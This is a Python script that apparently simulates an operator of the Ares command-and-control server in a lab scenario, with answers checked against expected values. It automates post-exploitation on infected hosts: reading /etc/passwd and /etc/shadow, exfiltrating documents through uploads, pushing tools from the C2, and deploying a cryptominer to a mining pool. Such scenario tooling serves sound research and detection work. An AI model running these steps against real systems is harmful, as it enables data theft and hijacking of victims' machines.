#!/usr/bin/env python3
"""ares_operator.py - the attacker at the Ares web interface in the `ares`
scenario: a scripted browser session (python3-requests, a drawn browser
User-Agent) that does what an operator clicks through. Our own code.

It logs in (POST /login), waits for the infected hosts to show up in the
agent list, watches them poll for DWELL seconds, opens each agent's page
and works through its console: pushes a command (POST /api/<id>/push, or
POST /api/massexec for every agent at once), polls the console (GET
/api/<id>/stdout, once a second) until the answer is in, thinks (THINK
seconds, varied), and goes on. OPERATOR_TASK:

  shell   CMD_COUNT shell commands drawn from a pool (whoami, id, uname
          -a, cat /etc/passwd, ...) with OPERATOR_SEED, run agent by agent
          (CMD_MODE=console) or on all at once (mass); each answer checked
  files   list the victim's documents, exfiltrate one (`upload`) or all of
          them zipped (`zip` + `upload`), fetch the upload from the C2 and
          compare it with the original; push a tool (`download` of a file
          staged on the C2) and check its sha256 on the victim
  miner   fetch the miner (`download`), check the cores (`nproc`), run it
          against the pool and wait for its report of accepted shares

Commands for every agent at once (the tool push, the miner, the final
`exit`) go through mass execution. At the end every agent is told to
`exit`, and the operator logs out.
Exit status 0 when every answer was as expected, 1 otherwise.
"""

import hashlib
import html
import io
import os
import random
import re
import sys
import time
import zipfile

import requests
import urllib3

urllib3.disable_warnings()

ENV = os.environ
SERVER = ENV["ARES_SERVER"]
PASSWORD = ENV["ARES_PASSWORD"]
AGENTS = int(ENV.get("AGENTS", "1"))
TASK = ENV.get("OPERATOR_TASK", "shell")
THINK = float(ENV.get("THINK", "1"))
DWELL = float(ENV.get("DWELL", "5"))
rng = random.Random(int(ENV.get("OPERATOR_SEED", "0")))


def log(*args):
    print("operator:", *args, flush=True)


class Failed(Exception):
    pass


class Console:
    def __init__(self):
        self.s = requests.Session()
        self.s.verify = False
        self.s.headers["User-Agent"] = ENV.get("OPERATOR_USER_AGENT", "Mozilla/5.0")

    def get(self, path, **kw):
        r = self.s.get(SERVER + path, timeout=30, **kw)
        r.raise_for_status()
        return r

    def post(self, path, data):
        r = self.s.post(SERVER + path, data=data, timeout=30)
        r.raise_for_status()
        return r

    def login(self):
        for _ in range(20):
            try:
                self.get("/login")
                break
            except requests.ConnectionError:
                time.sleep(1)
        else:
            raise Failed("the C2 does not answer")
        time.sleep(rng.uniform(1, 3))  # typing the passphrase
        r = self.post("/login", {"password": PASSWORD})
        if "Wrong passphrase" in r.text or r.url.rstrip("/").endswith("/login"):
            raise Failed("the C2 refused the passphrase")

    def agents(self):
        """The agent list: id -> hostname."""
        text = self.get("/agents").text
        return dict(re.findall(r'<a href="/agents/([^"]+)">[^<]*</a></td><td>[^<]*</td><td>([^<]*)</td>', text))

    def stdout(self, agent):
        return html.unescape(self.get("/api/%s/stdout" % agent).text)


def wait_answer(c, agent, before, cmd, done, timeout=30):
    """Poll the console until the echo of cmd and an answer that satisfies
    done(text after the echo) are there; return that text."""
    end = time.monotonic() + timeout
    echo = "$ %s\n\n" % cmd
    after = None
    while time.monotonic() < end:
        time.sleep(1)
        new = c.stdout(agent)[before:]
        if echo in new:
            after = new.split(echo, 1)[1]
            if done(after):
                return after
    raise Failed("%s: no good answer to %r within %d s: %r" % (agent, cmd, timeout, after))


def run_on(c, agent, cmd, done, timeout=30):
    before = len(c.stdout(agent))
    c.post("/api/%s/push" % agent, {"cmdline": cmd})
    answer = wait_answer(c, agent, before, cmd, done, timeout)
    log("%s $ %s -> %s" % (agent, cmd, answer.strip().replace("\n", " | ")[:160]))
    time.sleep(THINK * rng.uniform(0.5, 1.5))
    return answer


def block(after):
    """A complete answer: at least one report, ended by its blank line."""
    return after.strip() != "" and after.endswith("\n\n")


def mass(c, agents, cmd, done, timeout=30):
    """Run cmd on every agent at once (the agent list's mass execution);
    return each agent's answer, checked by done(agent, answer)."""
    before = {a: len(c.stdout(a)) for a in agents}
    c.get("/agents")
    r = c.s.post(SERVER + "/api/massexec", data={"selection": agents, "execute": "Execute", "cmd": cmd}, timeout=30)
    r.raise_for_status()
    answers = {}
    for a in agents:
        answers[a] = wait_answer(c, a, before[a], cmd, lambda t, a=a: done(a, t), timeout)
        log("%s $ %s -> %s" % (a, cmd, answers[a].strip().replace("\n", " | ")[:160]))
    time.sleep(THINK * rng.uniform(0.5, 1.5))
    return answers


# ---- shell commands ---------------------------------------------------------
def shell_pool(user, host):
    """(command, check of its answer) pairs an operator runs for recon."""
    return [
        ("whoami", lambda a: a.strip() == user),
        ("id", lambda a: a.startswith("uid=") and "(%s)" % user in a),
        ("uname -a", lambda a: a.startswith("Linux ")),
        ("hostname", lambda a: a.strip() == host),
        ("pwd", lambda a: a.strip() == "/home/" + user),
        ("cat /etc/os-release", lambda a: "Debian GNU/Linux" in a),
        ("cat /etc/passwd", lambda a: a.startswith("root:x:0:0:") and user + ":x:" in a),
        ("ls -la", lambda a: a.startswith("total ") and " .." in a),
        ("ls /home", lambda a: user in a.split()),
        ("df -h", lambda a: a.startswith("Filesystem")),
        ("cat /proc/net/route", lambda a: a.startswith("Iface")),
        ("hostname -I", lambda a: re.match(r"\d+\.\d+\.\d+\.\d+", a.strip()) is not None),
        ("env", lambda a: "HOME=/home/" + user in a),
        ("python import platform; print(platform.platform())", lambda a: "[*] Running python command..." in a and "Linux" in a),
        ("cat /etc/shadow", lambda a: "Permission denied" in a),
    ]


def task_shell(c, agents, info):
    pool = shell_pool("USER", "HOST")
    picks = rng.sample(range(len(pool)), min(int(ENV.get("CMD_COUNT", "3")), len(pool)))
    mode = ENV.get("CMD_MODE", "console")
    if mode == "mass":
        # one command at a time for every agent, from the agent list page
        for i in picks:
            checks = {a: shell_pool(info[a]["user"], info[a]["host"])[i][1] for a in agents}
            mass(c, agents, pool[i][0], lambda a, t: block(t) and checks[a](t))
        return
    for a in agents:
        c.get("/agents/%s" % a)
        checks = shell_pool(info[a]["user"], info[a]["host"])
        for i in picks:
            cmd, check = checks[i]
            run_on(c, a, cmd, lambda t: block(t) and check(t))


# ---- file transfers -----------------------------------------------------------
def task_files(c, agents, info):
    docs_dir = ENV["DOCS_DIR"]
    expected = {n: open(os.path.join("/expected/docs", n), "rb").read() for n in os.listdir("/expected/docs")}
    tool = ENV["TOOL_NAME"]
    tool_sha = hashlib.sha256(open(os.path.join("/expected/tool", tool), "rb").read()).hexdigest()
    tool_dest = ENV["TOOL_DEST"]
    exfil = ENV.get("EXFIL", "file")
    for a in agents:
        c.get("/agents/%s" % a)
        listing = run_on(c, a, "ls -la ~/%s" % docs_dir, block)
        for name in expected:
            if name not in listing:
                raise Failed("%s: %s is not in the listing" % (a, name))
        if exfil == "zip":
            archive = "/tmp/%s.zip" % ENV.get("ZIP_NAME", "backup")
            run_on(c, a, "zip %s ~/%s" % (archive, docs_dir), lambda t: "[+] Archive created: " in t)
            path = archive
        else:
            name = sorted(expected)[rng.randrange(len(expected))]
            path = "~/%s/%s" % (docs_dir, name)
        answer = run_on(c, a, "upload " + path, lambda t: "[*] File uploaded: " in t)
        link = re.search(r'\[\*\] File uploaded: <a target="_blank" href="([^"]+)">', answer).group(1)
        time.sleep(rng.uniform(0.5, 1.5))
        got = c.get(link).content
        if exfil == "zip":
            with zipfile.ZipFile(io.BytesIO(got)) as z:
                files = {os.path.basename(n): z.read(n) for n in z.namelist()}
            if files != expected:
                raise Failed("%s: the archive holds %s" % (a, sorted(files)))
        elif got != expected[os.path.basename(path)]:
            raise Failed("%s: the uploaded %s differs" % (a, path))
        log("%s: exfiltrated %s (%d bytes), checked" % (a, link, len(got)))
    # the tool goes to every agent at once
    mass(c, agents, "download %s/uploads/tools/%s %s" % (SERVER, tool, tool_dest),
         lambda a, t: "[+] File downloaded: " + tool_dest in t)
    mass(c, agents, "sha256sum " + tool_dest, lambda a, t: t.startswith(tool_sha + "  "))


# ---- the miner -----------------------------------------------------------------
def task_miner(c, agents, info):
    name = ENV["MINER_NAME"]
    dest = "/tmp/." + name
    seconds = float(ENV.get("MINER_TIME", "10"))
    cmd = "python3 %s -o stratum+tcp://%s -u %s -p %s --cpu-max-threads-hint %s --time %s" % (
        dest, ENV["POOL"], ENV["WALLET"], ENV.get("RIG_ID", "x"), ENV.get("CPU_LIMIT", "50"), ENV.get("MINER_TIME", "10"),
    )
    # deployed to every agent at once
    mass(c, agents, "download %s/uploads/tools/%s %s" % (SERVER, name, dest), lambda a, t: "[+] File downloaded: " + dest in t)
    mass(c, agents, "nproc", lambda a, t: block(t) and t.strip().isdigit())
    before = {a: len(c.stdout(a)) for a in agents}
    c.get("/agents")
    c.s.post(SERVER + "/api/massexec", data={"selection": agents, "execute": "Execute", "cmd": cmd}, timeout=30).raise_for_status()
    log("miner started on %d agents: %s" % (len(agents), cmd))
    for a in agents:
        answer = wait_answer(c, a, before[a], cmd, lambda t: "summary " in t, timeout=seconds + 40)
        m = re.search(r"summary  (\d+) hashes, (\d+) accepted, (\d+) rejected", answer)
        if not m or int(m.group(2)) < 1 or int(m.group(3)) > 0:
            raise Failed("%s: the miner reported %r" % (a, answer[-300:]))
        log("%s: %s" % (a, m.group(0)))


def main():
    c = Console()
    try:
        c.login()
        log("logged in to %s" % SERVER)
        end = time.monotonic() + 40
        seen = {}
        while time.monotonic() < end:
            seen = c.agents()
            if len(seen) >= AGENTS:
                break
            time.sleep(2)
        if len(seen) != AGENTS:
            raise Failed("%d agents, not %d" % (len(seen), AGENTS))
        time.sleep(DWELL)
        agents = sorted(seen, key=lambda a: seen[a])
        info = {a: {"host": seen[a], "user": a.rsplit("_", 1)[0]} for a in agents}
        log("agents: %s" % ", ".join("%s (%s)" % (a, seen[a]) for a in agents))
        {"shell": task_shell, "files": task_files, "miner": task_miner}[TASK](c, agents, info)
        mass(c, agents, "exit", lambda a, t: "[+] Exiting... (bye!)" in t)
        c.get("/logout")
        log("done; every agent exited")
        return 0
    except (Failed, requests.RequestException, OSError) as e:
        log("FAILED: %s" % e)
        return 1


if __name__ == "__main__":
    sys.exit(main())
